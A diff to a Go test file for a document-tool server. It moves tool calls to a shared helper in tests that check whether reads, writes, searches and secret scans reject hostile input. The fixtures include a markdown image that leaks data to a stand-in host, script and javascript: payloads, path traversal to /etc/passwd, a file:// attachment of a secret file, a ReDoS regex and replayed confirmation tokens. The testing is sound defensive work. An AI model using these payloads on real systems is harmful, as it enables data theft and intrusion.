@@ -13,6 +13,7 @@ import (
 	"github.com/arrowhead-go/arrowhead/core"
 	"github.com/arrowhead-go/arrowhead/core/authz"
 	"github.com/arrowhead-go/arrowhead/core/catalog"
+	"github.com/arrowhead-go/arrowhead/core/coretest"
 	"github.com/arrowhead-go/arrowhead/core/security"
 	"github.com/arrowhead-go/arrowhead/core/settings"
 	"github.com/arrowhead-go/arrowhead/core/tools/docs"
@@ -77,19 +78,6 @@ func newEnv(t testing.TB, vars map[string]string, files map[string]string) env {
 	return env{app: app, root: root, audit: audit}
 }
 
-func (e env) call(t *testing.T, p ports.Principal, tool string, args map[string]any, opts ...core.CallOption) (catalog.Result, *catalog.ToolError) {
-	t.Helper()
-	res, err := e.app.Call(t.Context(), p, tool, args, opts...)
-	if err != nil {
-		te, ok := catalog.AsToolError(err)
-		if !ok {
-			t.Fatalf("%s: non-ToolError %v", tool, err)
-		}
-		return res, te
-	}
-	return res, nil
-}
-
 func TestDocReadSanitizesEachFormat(t *testing.T) {
 	e := newEnv(t, nil, map[string]string{
 		"notes/a.md":    "# Title\n![x](https://evil.example/leak?d=secret)\n[ok](https://example.com) [bad](javascript:alert(1))\n<script>alert(1)</script>\n",
@@ -97,7 +85,7 @@ func TestDocReadSanitizesEachFormat(t *testing.T) {
 		"logs/c.txt":    "plain \x1b]0;title\x07text\u200b here\n",
 		"data/dup.json": `{"a":1,"a":2}`,
 	})
-	res, te := e.call(t, alice, "doc_read", map[string]any{"path": "notes/a.md"})
+	res, te := coretest.Call(t, e.app, alice, "doc_read", map[string]any{"path": "notes/a.md"})
 	if te != nil {
 		t.Fatal(te)
 	}
@@ -110,25 +98,25 @@ func TestDocReadSanitizesEachFormat(t *testing.T) {
 	if !strings.Contains(c, "https://example.com") || res.Structured["content_type"] != "markdown" {
 		t.Errorf("markdown lost its safe link: %s", c)
 	}
-	res, te = e.call(t, alice, "doc_read", map[string]any{"path": "data/b.json"})
+	res, te = coretest.Call(t, e.app, alice, "doc_read", map[string]any{"path": "data/b.json"})
 	if te != nil {
 		t.Fatal(te)
 	}
 	if c := res.Structured["content"].(string); !strings.Contains(c, `{"a":"evil","z":1}`) {
 		t.Errorf("json not canonical and clean: %s", c)
 	}
-	res, te = e.call(t, alice, "doc_read", map[string]any{"path": "logs/c.txt"})
+	res, te = coretest.Call(t, e.app, alice, "doc_read", map[string]any{"path": "logs/c.txt"})
 	if te != nil {
 		t.Fatal(te)
 	}
 	if c := res.Structured["content"].(string); strings.ContainsAny(c, "\x1b\x07\u200b") || !strings.Contains(c, "plain text here") {
 		t.Errorf("text not sanitized: %q", c)
 	}
-	if _, te := e.call(t, alice, "doc_read", map[string]any{"path": "data/dup.json"}); te == nil || te.Kind != catalog.KindValidation {
+	if _, te := coretest.Call(t, e.app, alice, "doc_read", map[string]any{"path": "data/dup.json"}); te == nil || te.Kind != catalog.KindValidation {
 		t.Errorf("duplicate keys: %v", te)
 	}
 	for _, p := range []string{"../outside.md", "/etc/passwd", "missing.md"} {
-		_, te := e.call(t, alice, "doc_read", map[string]any{"path": p})
+		_, te := coretest.Call(t, e.app, alice, "doc_read", map[string]any{"path": p})
 		if te == nil || strings.Contains(te.Message, p) {
 			t.Errorf("%q: %v", p, te)
 		}
@@ -137,17 +125,17 @@ func TestDocReadSanitizesEachFormat(t *testing.T) {
 
 func TestDocWriteNamespacesAndNoClobber(t *testing.T) {
 	e := newEnv(t, map[string]string{"ARROWHEAD_AUTH_ENABLED": "false"}, nil)
-	if _, te := e.call(t, alice, "doc_write", map[string]any{"path": "alice/todo.md", "content": "# Todo"}); te != nil {
+	if _, te := coretest.Call(t, e.app, alice, "doc_write", map[string]any{"path": "alice/todo.md", "content": "# Todo"}); te != nil {
 		t.Fatal(te)
 	}
-	if _, te := e.call(t, alice, "doc_write", map[string]any{"path": "mallet/x.md", "content": "no"}); te == nil || te.Kind != catalog.KindAuthorization || strings.Contains(te.Message, "mallet") {
+	if _, te := coretest.Call(t, e.app, alice, "doc_write", map[string]any{"path": "mallet/x.md", "content": "no"}); te == nil || te.Kind != catalog.KindAuthorization || strings.Contains(te.Message, "mallet") {
 		t.Fatalf("cross-namespace write: %v", te)
 	}
-	if _, te := e.call(t, alice, "doc_write", map[string]any{"path": "alice/todo.md", "content": "# Again"}); te == nil || !strings.Contains(te.Message, "overwrite=true") {
+	if _, te := coretest.Call(t, e.app, alice, "doc_write", map[string]any{"path": "alice/todo.md", "content": "# Again"}); te == nil || !strings.Contains(te.Message, "overwrite=true") {
 		t.Fatalf("clobber without overwrite: %v", te)
 	}
 	// No elicitation support: overwrite=true is the opt-in.
-	res, te := e.call(t, alice, "doc_write", map[string]any{"path": "alice/todo.md", "content": "# Again", "overwrite": true})
+	res, te := coretest.Call(t, e.app, alice, "doc_write", map[string]any{"path": "alice/todo.md", "content": "# Again", "overwrite": true})
 	if te != nil || res.Structured["created"] != false {
 		t.Fatalf("overwrite: %v %v", res, te)
 	}
@@ -165,7 +153,7 @@ func TestDocWriteNamespacesAndNoClobber(t *testing.T) {
 		"too big":       {"path": "alice/y.txt", "content": strings.Repeat("x", 1_000_001)},
 		"type mismatch": {"path": "alice/y.json", "attachment": map[string]any{"source": "data:text/markdown;base64," + base64.StdEncoding.EncodeToString([]byte("# x"))}},
 	} {
-		if _, te := e.call(t, alice, "doc_write", args); te == nil || te.Kind != catalog.KindValidation {
+		if _, te := coretest.Call(t, e.app, alice, "doc_write", args); te == nil || te.Kind != catalog.KindValidation {
 			t.Errorf("%s: %v", name, te)
 		}
 	}
@@ -178,14 +166,14 @@ func TestDocWriteNamespacesAndNoClobber(t *testing.T) {
 func TestDocWriteAttachments(t *testing.T) {
 	e := newEnv(t, nil, nil)
 	src := "data:text/markdown;base64," + base64.StdEncoding.EncodeToString([]byte("# From a file\n"))
-	if _, te := e.call(t, alice, "doc_write", map[string]any{"path": "alice/f.md", "attachment": map[string]any{"source": src, "filename": "f.md"}}); te != nil {
+	if _, te := coretest.Call(t, e.app, alice, "doc_write", map[string]any{"path": "alice/f.md", "attachment": map[string]any{"source": src, "filename": "f.md"}}); te != nil {
 		t.Fatal(te)
 	}
-	_, te := e.call(t, alice, "doc_write", map[string]any{"path": "alice/g.md", "attachment": map[string]any{"source": "file:///home/alice/secret-plan.md"}})
+	_, te := coretest.Call(t, e.app, alice, "doc_write", map[string]any{"path": "alice/g.md", "attachment": map[string]any{"source": "file:///home/alice/secret-plan.md"}})
 	if te == nil || !strings.Contains(te.Message, "arrowhead hook attachments") || strings.Contains(te.Message, "secret-plan") {
 		t.Fatalf("missing-hook payload: %v", te)
 	}
-	_, te = e.call(t, alice, "doc_write", map[string]any{"path": "alice/h.md", "attachment": map[string]any{"source": "https://example.com/x.md"}})
+	_, te = coretest.Call(t, e.app, alice, "doc_write", map[string]any{"path": "alice/h.md", "attachment": map[string]any{"source": "https://example.com/x.md"}})
 	if te == nil || !strings.Contains(te.Message, "doc_retrieve") {
 		t.Fatalf("http attachment: %v", te)
 	}
@@ -195,7 +183,7 @@ func TestDocWriteConfirmation(t *testing.T) {
 	e := newEnv(t, nil, map[string]string{"alice/plan.md": "v1"})
 	elicit := core.WithClientCaps(catalog.ClientCaps{Elicitation: true})
 	args := map[string]any{"path": "alice/plan.md", "content": "v2", "overwrite": true}
-	res, te := e.call(t, alice, "doc_write", args, elicit)
+	res, te := coretest.Call(t, e.app, alice, "doc_write", args, elicit)
 	if te != nil || res.NeedInput == nil || res.NeedInput.ID != docs.ConfirmInputID {
 		t.Fatalf("expected a confirmation request, got %+v %v", res, te)
 	}
@@ -206,27 +194,27 @@ func TestDocWriteConfirmation(t *testing.T) {
 	read := func() string { b, _ := os.ReadFile(filepath.Join(e.root, "alice", "plan.md")); return string(b) }
 
 	// Decline: nothing changes.
-	_, te = e.call(t, alice, "doc_write", args, elicit, core.WithInputs(answer("decline", false), state))
+	_, te = coretest.Call(t, e.app, alice, "doc_write", args, elicit, core.WithInputs(answer("decline", false), state))
 	if te == nil || te.Kind != catalog.KindAuthorization || read() != "v1" {
 		t.Fatalf("decline: %v, content %q", te, read())
 	}
 	// A state minted for alice is useless to mallet, for other content, or
 	// when tampered with.
-	_, te = e.call(t, mallet, "doc_write", args, elicit, core.WithInputs(answer("accept", true), state))
+	_, te = coretest.Call(t, e.app, mallet, "doc_write", args, elicit, core.WithInputs(answer("accept", true), state))
 	if te == nil || read() != "v1" {
 		t.Fatalf("replayed by another caller: %v", te)
 	}
 	other := map[string]any{"path": "alice/plan.md", "content": "evil", "overwrite": true}
-	_, te = e.call(t, alice, "doc_write", other, elicit, core.WithInputs(answer("accept", true), state))
+	_, te = coretest.Call(t, e.app, alice, "doc_write", other, elicit, core.WithInputs(answer("accept", true), state))
 	if te == nil || read() != "v1" {
 		t.Fatalf("state reused for other content: %v", te)
 	}
-	_, te = e.call(t, alice, "doc_write", args, elicit, core.WithInputs(answer("accept", true), state+"0"))
+	_, te = coretest.Call(t, e.app, alice, "doc_write", args, elicit, core.WithInputs(answer("accept", true), state+"0"))
 	if te == nil || read() != "v1" {
 		t.Fatalf("tampered state: %v", te)
 	}
 	// Accept: replaced.
-	_, te = e.call(t, alice, "doc_write", args, elicit, core.WithInputs(answer("accept", true), state))
+	_, te = coretest.Call(t, e.app, alice, "doc_write", args, elicit, core.WithInputs(answer("accept", true), state))
 	if te != nil || read() != "v2" {
 		t.Fatalf("accept: %v, content %q", te, read())
 	}
@@ -239,7 +227,7 @@ func TestDocSearchAuthorizedAndSanitized(t *testing.T) {
 			"public-evil/b.md": "deadline here too\n",
 			"private/c.md":     "secret deadline\n",
 		})
-	res, te := e.call(t, alice, "doc_search", map[string]any{"query": "deadline"})
+	res, te := coretest.Call(t, e.app, alice, "doc_search", map[string]any{"query": "deadline"})
 	if te != nil {
 		t.Fatal(te)
 	}
@@ -251,15 +239,15 @@ func TestDocSearchAuthorizedAndSanitized(t *testing.T) {
 	if m["path"] != "public/a.md" || strings.Contains(m["snippet"].(string), "\x1b") {
 		t.Fatalf("match %v", m)
 	}
-	if _, te := e.call(t, alice, "doc_search", map[string]any{"query": "dead.*", "use_regex": true}); te == nil {
+	if _, te := coretest.Call(t, e.app, alice, "doc_search", map[string]any{"query": "dead.*", "use_regex": true}); te == nil {
 		t.Fatal("regex accepted while disabled")
 	}
 	r := newEnv(t, map[string]string{"ARROWHEAD_SEARCH_REGEX_ENABLED": "true"}, map[string]string{"a.txt": "order 12345 shipped\n"})
-	res, te = r.call(t, alice, "doc_search", map[string]any{"query": `order \d+`, "use_regex": true})
+	res, te = coretest.Call(t, r.app, alice, "doc_search", map[string]any{"query": `order \d+`, "use_regex": true})
 	if te != nil || len(res.Structured["matches"].([]any)) != 1 {
 		t.Fatalf("regex search: %v %v", res.Structured, te)
 	}
-	if _, te := r.call(t, alice, "doc_search", map[string]any{"query": "(a+)+$", "use_regex": true, "path_prefix": "../"}); te == nil {
+	if _, te := coretest.Call(t, r.app, alice, "doc_search", map[string]any{"query": "(a+)+$", "use_regex": true, "path_prefix": "../"}); te == nil {
 		t.Fatal("parent prefix accepted")
 	}
 }
@@ -270,7 +258,7 @@ func TestDocScanNeverReturnsRawValues(t *testing.T) {
 	e := newEnv(t, nil, map[string]string{
 		"exports/creds.txt": "key=" + aws + "\ntoken " + ghp + "\nmail bob@example.com\n",
 	})
-	res, te := e.call(t, alice, "doc_scan", map[string]any{"path_prefix": "exports/"})
+	res, te := coretest.Call(t, e.app, alice, "doc_scan", map[string]any{"path_prefix": "exports/"})
 	if te != nil {
 		t.Fatal(te)
 	}
